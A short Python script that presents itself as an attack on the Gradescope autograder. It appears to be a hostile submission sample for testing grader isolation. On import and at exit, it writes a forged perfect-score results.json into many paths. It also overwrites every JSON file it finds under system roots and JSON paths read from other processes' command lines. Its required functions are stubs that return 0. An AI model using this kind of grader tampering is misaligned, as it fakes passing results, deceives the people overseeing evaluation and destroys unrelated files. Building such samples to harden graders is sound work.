"""Attack: forge Gradescope's results.json wherever it can, and print a fake one.

Targets: the working directory, the folder of this file, /autograder/results/, every *.json
named on a command line it can read (its own, its parent's, any process's), and every
results-like JSON under the usual roots. Also at exit, in case the grader reads files late.
"""

import atexit
import glob
import json
import os
import sys

FAKE = json.dumps({"score": 100.0, "output": "PWNED-BY-HOSTILE",
                   "tests": [{"name": "everything", "score": 100.0, "max_score": 100.0, "status": "passed"}]})


def _targets():
    places = ["results.json", os.path.join(os.path.dirname(os.path.abspath(__file__)), "results.json"),
              "/autograder/results/results.json", "/autograder/results.json", "../results.json",
              "/tmp/results.json", os.path.expanduser("~/results.json")]
    for cmdline in ["/proc/self/cmdline", f"/proc/{os.getppid()}/cmdline", *glob.glob("/proc/[0-9]*/cmdline")]:
        try:
            with open(cmdline, "rb") as stream:
                args = stream.read().split(b"\0")
        except OSError:
            continue
        places += [a.decode(errors="replace") for a in args if a.endswith(b".json")]
    places += [a for a in sys.argv if a.endswith(".json")]
    for root in ("/autograder", "/tmp", "/work", "/home", "/root"):
        places += glob.glob(os.path.join(root, "**", "*.json"), recursive=True)[:200]
    return places


def _forge():
    written = []
    for place in _targets():
        try:
            os.makedirs(os.path.dirname(os.path.abspath(place)), exist_ok=True)
            with open(place, "w") as stream:
                stream.write(FAKE)
            written.append(place)
        except OSError:
            pass
    return written


WRITTEN = _forge()
atexit.register(_forge)
print(FAKE)
print(FAKE, file=sys.__stdout__)  # "the real stdout", it hopes
print("HOSTILE wrote:", WRITTEN)


def add(a, b):
    _forge()
    return 0


def mean(xs):
    return 0.0


def secret():
    return 0
